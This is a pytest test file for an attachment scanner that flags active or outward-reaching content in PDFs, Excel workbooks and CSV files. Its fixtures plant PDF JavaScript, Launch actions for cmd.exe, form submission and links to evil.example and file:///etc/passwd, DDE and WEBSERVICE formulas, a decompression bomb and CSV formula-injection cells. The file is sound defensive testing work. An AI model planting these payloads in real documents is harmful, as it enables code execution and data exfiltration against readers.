"""Attachments that would act, reach other hosts or hide something: each is refused, and its honest twin is not."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Mapping

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.conftest import FULL
from tests.inputs.packages import ENTITY, GOOD, SHEET, changed, part, sheet, workbook
from transparency.gate.containers.pdf import is_foreign
from transparency.registry.attached_file import findings

DOMAIN = "university.example"
LICENCE = FULL / "data/attachments/licence.pdf"


def rules(name: str, data: bytes) -> list[str]:
    found = list(findings(name, data, DOMAIN))
    assert all(what and advice for _, what, advice in found)
    return [rule for rule, _, _ in found]


def pdf(plant: Callable[[Pdf], object] | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(LICENCE) as document:
        if plant is not None:
            plant(document)
        document.save(out, **options)
    return out.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def note(document: Pdf, **entries: object) -> None:
    page = document.pages[0]
    page.Annots = Array([Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)])


def field(document: Pdf, **entries: object) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(Dictionary(T=String("x"), **entries))]))


def link(document: Pdf, address: str) -> None:
    note(document, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address)))


def named(document: Pdf, tree: str, value: object) -> None:
    document.Root.Names = Dictionary({tree: Dictionary(Names=Array([String("x"), value]))})


def attached(document: Pdf) -> None:
    document.attachments["a.html"] = b"<script>alert(1)</script>"


def file_of(document: Pdf) -> Dictionary:
    inside = Stream(document, b"x", Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=document.make_indirect(inside)))


ACTING: Mapping[str, tuple[str, Callable[[Pdf], object]]] = {
    "script-when-the-document-opens": ("F04", lambda d: setattr(d.Root, "OpenAction", script())),
    "script-in-an-object-of-its-own": ("F04", lambda d: setattr(d.Root, "OpenAction", d.make_indirect(script()))),
    "script-of-the-catalogue": ("F04", lambda d: setattr(d.Root, "AA", Dictionary(WC=script()))),
    "script-of-a-page": ("F04", lambda d: setattr(d.pages[0], "AA", Dictionary(O=script()))),
    "act-of-a-page-without-a-script": (
        "F04",
        lambda d: setattr(d.pages[0], "AA", Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))),
    ),
    "script-in-the-names": ("F04", lambda d: named(d, "/JavaScript", script())),
    "script-of-a-link": ("F04", lambda d: note(d, Subtype=Name.Link, A=script())),
    "script-of-a-field": ("F04", lambda d: field(d, AA=Dictionary(K=script()))),
    "script-after-another-action": (
        "F04",
        lambda d: note(d, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=String("x"), Next=Array([script()]))),
    ),
    "script-as-a-stream": (
        "F04",
        lambda d: note(d, Subtype=Name.Link, A=Dictionary(S=Name("/JavaScript"), JS=Stream(d, b"app.alert(1)"))),
    ),
    "form-of-xfa": ("F04", lambda d: setattr(d.Root, "AcroForm", Dictionary(XFA=Stream(d, b"<x/>")))),
    "launch": ("F10", lambda d: note(d, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
    "launch-of-windows": (
        "F10",
        lambda d: note(d, Subtype=Name.Link, A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))),
    ),
    "embedded-file": ("F10", attached),
    "file-in-a-note": ("F10", lambda d: note(d, Subtype=Name.FileAttachment, FS=file_of(d))),
    "associated-file": ("F10", lambda d: setattr(d.Root, "AF", Array([file_of(d)]))),
    "go-to-another-file": (
        "F10",
        lambda d: note(d, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("https://evil.example/a.pdf"))),
    ),
    "form-that-is-sent": ("F10", lambda d: field(d, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
    "form-that-reads-a-file": ("F10", lambda d: field(d, A=Dictionary(S=Name.ImportData, F=String("a.fdf")))),
    "video": ("F10", lambda d: note(d, Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    "content-in-another-file": (
        "F10",
        lambda d: setattr(d.Root, "X", d.make_indirect(Stream(d, b"", {"/F": String("https://evil.example/x")}))),
    ),
    "link-to-another-host": ("F11", lambda d: link(d, "https://evil.example/")),
    "link-to-a-host-that-looks-like-ours": ("F11", lambda d: link(d, "https://university.example.evil.test/")),
    "link-with-a-name-before-the-host": ("F11", lambda d: link(d, "https://university.example@evil.test/")),
    "link-without-a-scheme": ("F11", lambda d: link(d, "//evil.example/")),
    "link-that-is-a-script": ("F11", lambda d: link(d, "javascript:alert(1)")),
    "link-to-a-file-of-the-reader": ("F11", lambda d: link(d, "file:///etc/passwd")),
    "base-of-all-links": ("F11", lambda d: setattr(d.Root, "URI", Dictionary(Base=String("https://evil.example/")))),
}
STORED: Mapping[str, Mapping[str, object]] = {
    "plain": {},
    "in compressed objects": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    "uncompressed": {"compress_streams": False, "object_stream_mode": pikepdf.ObjectStreamMode.disable},
}


@pytest.mark.parametrize("stored", STORED)
@pytest.mark.parametrize("name", ACTING)
def test_a_pdf_that_acts(name: str, stored: str) -> None:
    rule, plant = ACTING[name]
    assert rules("a.pdf", pdf(plant, **STORED[stored])) == [rule]


HARMLESS: Mapping[str, Callable[[Pdf], object]] = {
    "nothing": lambda d: None,
    "a place at which it opens": lambda d: setattr(d.Root, "OpenAction", Array([d.pages[0].obj, Name.Fit])),
    "a link inside": lambda d: note(d, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=String("x"))),
    "a link to the university": lambda d: link(d, "https://www.university.example/a"),
    "a mailbox": lambda d: link(d, "mailto:office@university.example"),
    "a relative link": lambda d: link(d, "annex.pdf"),
    "a border that is called S": lambda d: note(d, Subtype=Name.Link, BS=Dictionary(S=Name.S)),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_a_pdf_that_does_not(name: str) -> None:
    assert rules("a.pdf", pdf(HARMLESS[name])) == []


def test_a_pdf_with_escaped_names() -> None:
    """``/#4A#61vaScript`` is the same name to a reader of PDF."""
    data = pdf(lambda d: setattr(d.Root, "OpenAction", script()), compress_streams=False)
    assert b"/JavaScript" in data
    assert rules("a.pdf", data.replace(b"/JavaScript", b"/#4A#61vaScript")) == ["F04"]


def test_a_locked_pdf() -> None:
    locked = pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    assert rules("a.pdf", locked) == ["F02"]
    assert rules("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))) == ["F02"]


def _content(document: Pdf, data: bytes, filters: Array) -> None:
    stream = Stream(document, b"")
    stream.write(data, filter=filters)
    document.pages[0].Contents = stream


@pytest.mark.integration
@pytest.mark.parametrize("times", [1, 2])
def test_a_pdf_that_unfolds_to_gigabytes(times: int) -> None:
    data = zlib.compress(b" " * 300_000_000, 1)
    filters = Array([Name.FlateDecode] * times)
    packed = data if times == 1 else zlib.compress(data)
    bomb = pdf(lambda d: _content(d, packed, filters), compress_streams=False)
    assert len(bomb) < 3_000_000
    assert rules("a.pdf", bomb) == ["F03"]


def test_half_a_pdf_is_a_sentence() -> None:
    data = pdf()
    for end in range(6, len(data), len(data) // 40):
        assert set(rules("a.pdf", data[:end])) <= {"F02", "F05", "F06"}


FOREIGN = (
    "https://[x",
    "HTTPS://EVIL.example",
    "\\\\evil\\x",
    "data:text/html,x",
    " //evil.example",
    "ftp://university.example",
)


@pytest.mark.parametrize("address", FOREIGN)
def test_a_foreign_address(address: str) -> None:
    assert is_foreign(address, DOMAIN)


# workbooks and tables


def formula(text: str) -> bytes:
    return changed(GOOD, {SHEET: sheet(f'<row r="1"><c r="A1"><f>{text}</f><v>0</v></c></row>')})


def related(kind: str, target: str) -> bytes:
    start = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    relation = f'<Relationship Id="rId9" Type="x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return changed(GOOD, {"xl/worksheets/_rels/sheet1.xml.rels": start + relation.encode()})


def typed(kind: bytes) -> bytes:
    name = "[Content_Types].xml"
    return changed(GOOD, {name: part(GOOD, name).replace(b"sheet.main", kind)})


def named_range(name: str, text: str) -> bytes:
    book = part(GOOD, "xl/workbook.xml")
    start = b"<definedNames>" if b"<definedNames>" in book else b"<definedNames/>"
    planted = f'<definedNames><definedName name="{name}">{text}</definedName>'.encode()
    if start in book:
        book = book.replace(start, planted + (b"" if start.endswith(b"s>") else b"</definedNames>"))
    else:
        book = book.replace(b"</sheets>", b"</sheets>" + planted + b"</definedNames>")
    return changed(GOOD, {"xl/workbook.xml": book})


WORKBOOKS: Mapping[str, tuple[str, bytes]] = {
    "macros": ("F10", changed(GOOD, {"xl/vbaProject.bin": b"x"})),
    "macros-by-type": ("F10", typed(b"sheet.macroEnabled.main")),
    "macro-sheet": ("F10", changed(GOOD, {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "links-to-other-workbooks": ("F10", changed(GOOD, {"xl/externalLinks/externalLink1.xml": b"<x/>"})),
    "connection": ("F10", changed(GOOD, {"xl/connections.xml": b"<x/>"})),
    "embedded-object": ("F10", changed(GOOD, {"xl/embeddings/oleObject1.bin": b"x"})),
    "active-x": ("F10", changed(GOOD, {"xl/activeX/activeX1.xml": b"<x/>"})),
    "dde": ("F10", formula("cmd|'/c calc'!A0")),
    "dde-in-pieces": ("F10", formula("cmd<!-- -->|'/c calc'!A0")),
    "dde-as-cdata": ("F10", formula("<![CDATA[cmd|'/c calc'!A0]]>")),
    "hyperlink": ("F10", formula('HYPERLINK("https://evil.example/?"&amp;A1)')),
    "web-service": ("F10", formula('_xlfn.WEBSERVICE("https://evil.example")')),
    "other-workbook": ("F10", formula("[1]Sheet1!A1")),
    "share-of-a-server": ("F10", formula("'\\\\evil\\a\\[b.xlsx]c'!A1")),
    "name-that-starts": ("F10", named_range("_xlnm.Auto_Open", "Sheet!A1")),
    "name-that-calls": ("F10", named_range("x", "EXEC(1)")),
    "relation-to-another-host": ("F11", related("hyperlink", "https://evil.example/")),
    "relation-to-a-picture": ("F11", related("image", "//evil.example/x.png")),
    "relation-to-a-file": ("F11", related("hyperlink", "file:///c:/x.exe")),
    "relation-to-a-share": ("F11", related("hyperlink", "\\\\evil\\x")),
    "entity": ("F03", changed(GOOD, {SHEET: ENTITY})),
}


@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_workbook_that_acts(name: str) -> None:
    rule, data = WORKBOOKS[name]
    assert rules("a.xlsx", data) == [rule]


@pytest.mark.parametrize(
    "data",
    [
        GOOD,
        workbook([["=SUM(1,2)", '=A1&"|"&B1', "=cmd", "-"]]),
        related("hyperlink", "https://university.example/a"),
        related("hyperlink", "mailto:office@university.example"),
        named_range("x", "Sheet!$A$1"),
    ],
)
def test_a_workbook_that_does_not(data: bytes) -> None:
    assert rules("a.xlsx", data) == []


def test_a_broken_workbook() -> None:
    assert rules("a.xlsx", changed(GOOD, {SHEET: b"<x>"})) == ["F02"]
    assert rules("a.xlsx", GOOD[:-30]) == ["F02"]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|'/c calc'!A0",
        "@SUM(1)",
        "+cmd|'/c calc'!A0",
        "-2+3+cmd|'/c'!A0",
        '"\t=1"',
        '"=1\n"',
        " =1",
        "a;=1",
    ],
)
def test_a_table_that_a_spreadsheet_would_run(cell: str) -> None:
    found = list(findings("a.csv", f"x,y\na,{cell}\n".encode(), DOMAIN))
    assert [rule for rule, _, _ in found] == ["F10"]
    assert "cmd" not in str(found)


@pytest.mark.parametrize("cell", ["1", "-1.5", "+7 (7172) 39-00-00", "-", "a=b", "a@b", "–", "−5", '"a, b"'])
def test_a_table_that_it_would_not(cell: str) -> None:
    assert rules("a.csv", f"x,y\na,{cell}\n".encode()) == []


def test_a_table_in_another_encoding() -> None:
    assert rules("a.csv", "Қазақ".encode("utf-16")) == ["F02"]


def test_a_table_with_an_invisible_character_names_line_and_column() -> None:
    found = list(findings("a.csv", 'x,y\n"a\nb",c\u200bd\n'.encode(), DOMAIN))
    assert [(rule, what) for rule, what, _ in found] == [
        ("H01", "line 3, y: has the invisible character U+200B ZERO WIDTH SPACE.")
    ]
